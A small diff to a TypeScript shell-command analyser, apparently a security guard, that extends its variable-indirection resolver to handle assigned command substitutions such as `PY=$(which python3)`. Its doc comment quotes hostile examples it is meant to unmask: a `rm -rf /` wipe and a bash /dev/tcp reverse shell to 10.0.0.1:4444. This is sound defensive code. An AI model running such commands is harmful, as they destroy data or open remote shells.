@@ -3,7 +3,8 @@ import { decodeAnsiC } from './decode-ansi-c';
 /**
  * Cheap variable indirection within one command line: `x=rm; $x -rf /`,
  * `t=/dev/tcp; bash -i >& $t/10.0.0.1/4444`, `${s}sh`, and the program located by a
- * substitution, `$(which nc)`, `` `command -v python3` ``. Only static values are
+ * substitution, `$(which nc)`, `` `command -v python3` `` (also when assigned:
+ * `PY=$(which python3); $PY`). Only static values are
  * remembered (no `$(...)`, backticks or other variables in the value), at most
  * {@link MAX_VARIABLES} names of at most {@link MAX_VALUE} characters each, so this
  * stays linear and bounded. Unknown variables stay literal, as before.
@@ -63,6 +64,12 @@ export class VariableScope {
     if (!backtick && !word.includes('$')) return word;
     const located = LOCATOR.exec(word);
     if (located?.[1] !== undefined) return located[1];
+    // `PY=$(which python3)`: the assignment keeps the located name, so `$PY` resolves.
+    const eq = word.indexOf('=');
+    if (eq > 0 && NAME.test(word.slice(0, eq))) {
+      const assigned = LOCATOR.exec(word.slice(eq + 1));
+      if (assigned?.[1] !== undefined) return `${word.slice(0, eq)}=${assigned[1]}`;
+    }
     let resolved = word;
     if (backtick || resolved.includes('$('))
       resolved = resolved.replace(STATIC_SUBSTITUTION, staticOutput);
